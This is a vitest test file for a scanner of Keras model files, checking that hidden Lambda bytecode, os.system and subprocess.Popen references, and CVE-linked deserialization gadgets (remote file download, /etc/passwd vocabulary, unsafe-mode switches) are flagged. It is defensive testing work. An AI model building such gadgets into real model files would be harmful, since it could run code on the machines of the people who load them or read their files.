/** Keras models that Keras 2 and 3 wrote (`fixtures/scan/make-keras.py`), and hostile ones put together by hand. */

import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { FileScan } from '../../../src/model.ts';
import { EVIL } from '../build/payload.ts';
import { ofKind, payloads, scanBytes } from '../build/scanned.ts';
import { zip } from '../build/zip.ts';

const FOLDER = join(import.meta.dirname, '../../../fixtures/scan/keras');
const FILES = readdirSync(FOLDER, { recursive: true, encoding: 'utf8' })
  .map((path) => path.replaceAll('\\', '/'))
  .filter((path) => /\.\w+$/.test(path.split('/')[1] ?? ''));
const scanned = (path: string) => scanBytes(readFileSync(join(FOLDER, path)), path);
const of = (pattern: RegExp) => FILES.filter((path) => pattern.test(path));

const story = (python: string) => readFileSync(join(FOLDER, `../marshal/story-${python}.marshal`)).toString('base64');
const CODE = story('3.8');

/** A layer of a model, as JSON. */
const model = (...layers: readonly unknown[]) =>
  Buffer.from(JSON.stringify({ class_name: 'Sequential', module: 'keras', config: { name: 'm', layers } }));
const asJson = (...layers: readonly unknown[]) => scanBytes(model(...layers), 'config.json');
const severe = ({ evidence }: FileScan) => evidence.filter(({ severity }) => severity !== 'info');

describe('models of layers alone are clean', () => {
  test.each(of(/(?:dense|branches)\./))('%s', async (path) => {
    expect(await scanned(path)).toMatchObject({ verdict: 'clean', evidence: [], inconclusive: [] });
  });
});

describe('a Lambda that only computes is told, and is suspicious for being code', () => {
  test.each(of(/lambda-double|metadata/))('%s', async (path) => {
    const scan = await scanned(path);
    expect(scan).toMatchObject({ verdict: 'suspicious', inconclusive: [] });
    const [lambda] = ofKind(scan, 'keras-lambda');
    expect(lambda).toMatchObject({ severity: 'medium' });
    expect(lambda?.message).toContain('it only computes');
    expect(lambda?.details[0]).toMatch(/^code of Python 3\.11.*, <lambda> of make-keras\.py, line \d+$/);
  });
});

describe('a Lambda that runs a command is dangerous, and its command is shown', () => {
  test.each(of(/lambda-echo|2\.15\.0\/lambda-named/))('%s', async (path) => {
    const scan = await scanned(path);
    expect(scan).toMatchObject({ verdict: 'dangerous', inconclusive: [] });
    expect(ofKind(scan, 'keras-lambda')[0]?.details.at(-1)).toContain("os.system('echo harmless')");
  });
});

describe('code is found wherever it stands', () => {
  const lambda = { class_name: '__lambda__', config: { code: CODE, defaults: null, closure: null } };
  const list = [CODE.replace(/(.{76})/g, '$1\n'), null, null];
  const lambdaLayer = (config: object) => ({ class_name: 'Lambda', config });
  const dense = (config: object) => ({ class_name: 'Dense', module: 'keras.layers', config, registered_name: null });

  test.each<[string, unknown]>([
    ['a Lambda of Keras 2, base64 in lines', lambdaLayer({ function: list, function_type: 'lambda' })],
    ['a Lambda of Keras 3', lambdaLayer({ function: lambda })],
    ['its output shape', lambdaLayer({ function: 'relu', output_shape: list, output_shape_type: 'lambda' })],
    ['its mask', lambdaLayer({ function: 'relu', mask: lambda })],
    ['an activation', dense({ activation: lambda })],
    ['an initialiser', dense({ kernel_initializer: lambda })],
    ['a layer within a layer', { class_name: 'TimeDistributed', config: { layer: dense({ activation: lambda }) } }],
    [
      'a model within a model',
      {
        class_name: 'Functional',
        config: { layers: [{ class_name: 'Sequential', config: { layers: [lambdaLayer({ function: list })] } }] },
      },
    ],
    [
      'what a model is compiled with',
      { class_name: 'Sequential', config: {}, compile_config: { loss: lambda, metrics: [[lambda]] } },
    ],
    ['a key that no one knows', dense({ anything: { else: [{ x: lambda }] } })],
    ['text that is a configuration', dense({ note: JSON.stringify(lambdaLayer({ function: list })) })],
  ])('%s', async (_, layer) => {
    const scan = await asJson(layer);
    expect(scan.verdict).toBe('dangerous');
    expect(scan.evidence.flatMap(({ details }) => details).join('\n')).toContain(
      "os.system('start echo.exe harmless')",
    );
  });

  test('what is no digit of base64 does not hide it', async () => {
    const hidden = [CODE.replace(/(.{5})/g, '$1!~'), null, null];
    expect((await asJson(lambdaLayer({ function: hidden }))).verdict).toBe('dangerous');
  });

  test('escapes do not hide its keys', async () => {
    const text = model(lambdaLayer({ function: list }))
      .toString()
      .replaceAll('class_name', 'cl\\u0061ss_name');
    expect((await scanBytes(Buffer.from(text), 'config.json')).verdict).toBe('dangerous');
  });

  test('numbers that only Python writes do not either', async () => {
    const text = model(dense({ epsilon: 0.5 }), lambdaLayer({ function: list }))
      .toString()
      .replace('0.5', 'NaN');
    expect((await scanBytes(Buffer.from(text), 'config.json')).verdict).toBe('dangerous');
  });

  test('the defaults of its arguments are what they are', async () => {
    // lambda x, c='echo default': __import__('os').system(c), by Python 3.11
    const code =
      '4wIAAAAAAAAAAAAAAAMAAAADAAAA80YAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAfAGmAQAAqwEAAAAAAAAAAFMAKQJO2gJvcykC2gpfX2ltcG9ydF9f2gZzeXN0ZW0pAtoBeNoBY3MCAAAAICDaAPoIPGxhbWJkYT5yCAAAAAEAAABzHAAAAIAAnWqoFNEeLtQeLtceNdIeNbBh0R441B44gADzAAAAAA==';
    const scan = await asJson(lambdaLayer({ function: [code, ['echo default'], null] }));
    expect(scan.evidence.flatMap(({ details }) => details).join('\n')).toContain("os.system('echo default')");
  });

  test('code that cannot be read is dangerous, and a gap', async () => {
    const scan = await asJson(
      lambdaLayer({ function: [Buffer.from(`\xe3${'x'.repeat(60)}`, 'latin1').toString('base64'), null, null] }),
    );
    expect(scan.verdict).toBe('dangerous');
    expect(scan.inconclusive).toHaveLength(1);
  });
});

describe('what a configuration names', () => {
  const named = (module: string | null, class_name: string, config: unknown = {}) => ({
    module,
    class_name,
    config,
    registered_name: class_name,
  });

  test.each<[string, unknown, string]>([
    ['a function of any module (CVE-2025-1550)', named('os', 'function', 'system'), 'keras-dangerous-name'],
    ['a class of any module (CVE-2025-1550)', named('subprocess', 'Popen', { args: ['echo'] }), 'keras-dangerous-name'],
    [
      'the download of a file (CVE-2025-8747)',
      named('keras.utils', 'get_file', { origin: 'http://198.51.100.7/a' }),
      'keras-gadget',
    ],
    [
      'the switch for unsafe files (CVE-2025-9906)',
      named('keras.config', 'function', 'enable_unsafe_deserialization'),
      'keras-gadget',
    ],
    ['another model (CVE-2025-9906)', named('keras.models', 'function', 'load_model'), 'keras-gadget'],
    [
      'an argument that makes it unsafe (CVE-2025-9906)',
      named('keras.layers', 'Dense', { arguments: { safe_mode: false } }),
      'keras-gadget',
    ],
    [
      'a SavedModel elsewhere (CVE-2026-1462)',
      named('keras.layers', 'TFSMLayer', { filepath: '/tmp/model' }),
      'keras-gadget',
    ],
    [
      'a module of PyTorch (CVE-2025-49655)',
      named('keras.layers', 'TorchModuleWrapper', { module: 'x' }),
      'keras-gadget',
    ],
    [
      'a vocabulary of the machine (CVE-2025-12058)',
      named('keras.layers', 'StringLookup', { vocabulary: '/etc/passwd' }),
      'keras-vocabulary',
    ],
    [
      'a vocabulary of an address (CVE-2025-12058)',
      named(null, 'TextVectorization', { vocabulary: 'http://198.51.100.7/' }),
      'keras-vocabulary',
    ],
  ])('%s is dangerous', async (_, layer, kind) => {
    const scan = await asJson({ class_name: 'Wrapper', config: { inner: [layer] } });
    expect(scan.verdict).toBe('dangerous');
    expect(ofKind(scan, kind)).toMatchObject([{ severity: 'critical' }]);
  });

  test('what is reached is shown', async () => {
    const scan = await asJson(named('keras.layers', 'StringLookup', { vocabulary: 'http://198.51.100.7/words' }));
    expect(ofKind(scan, 'keras-vocabulary')[0]?.details).toEqual(['http://198.51.100.7/words']);
  });

  test('a module on no list is suspicious, and told once', async () => {
    const scan = await asJson(named('of_somebody', 'Layer'), named('of_somebody', 'Layer'));
    expect(scan.verdict).toBe('suspicious');
    expect(ofKind(scan, 'keras-unknown-name')).toHaveLength(1);
  });

  test('a vocabulary that is a list, and layers of an author, are none of this', async () => {
    const scan = await asJson(
      named('keras.layers', 'StringLookup', { vocabulary: ['a', 'b'] }),
      { class_name: 'Mine', module: null, config: {}, registered_name: 'Author>Mine' },
      named('keras.src.ops.numpy', 'Add'),
      named('keras', 'DTypePolicy', { name: 'float32' }),
      named('keras.src.applications.convnext', 'LayerScale'),
      named('tensorflow.python.ops.init_ops_v2', 'Constant', { value: 0 }),
    );
    expect(severe(scan)).toEqual([]);
  });

  test('a long text that begins like base64 of code is text', async () => {
    const scan = await asJson(
      named('keras.layers', 'Dense', { note: '43 layers, each of which is wider than the one in front of it' }),
    );
    expect(scan).toMatchObject({ verdict: 'clean', inconclusive: [] });
  });

  test('a configuration that is not of Keras is left alone', async () => {
    const text = JSON.stringify({ steps: [{ class_name: 'Popen', module: 'subprocess', config: {} }] });
    expect((await scanBytes(Buffer.from(text), 'pipeline.json')).evidence).toEqual([]);
  });
});

test('a pickle among the weights of an archive is found', async () => {
  const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n";
  const npy = Buffer.concat([
    Buffer.from('\x93NUMPY\x01\0', 'latin1'),
    Buffer.from([header.length, 0]),
    Buffer.from(header),
    EVIL,
  ]);
  const archive = zip([
    { name: 'metadata.json', data: Buffer.from('{"keras_version": "3.0.0"}') },
    { name: 'config.json', data: model() },
    { name: 'model.weights.npz', data: zip([{ name: 'layer.npy', data: npy }]) },
  ]);
  const scan = await scanBytes(archive, 'model.keras');
  expect(scan.format).toBe('Keras archive');
  expect(payloads(scan)).toEqual(['model.weights.npz > layer.npy']);
});

test('every broken copy of every fixture ends, in a verdict', async () => {
  const { createRandom, mutated } = await import('../build/mutations.ts');
  const random = createRandom(7);
  const files = FILES.map((path) => readFileSync(join(FOLDER, path)));
  for (let round = 0; round < 300; round++) {
    const [one, other] = [files[random(files.length)] as Buffer, files[random(files.length)] as Buffer];
    const scan = await scanBytes(mutated(one, other, random));
    expect(['clean', 'inconclusive', 'suspicious', 'dangerous']).toContain(scan.verdict);
  }
});
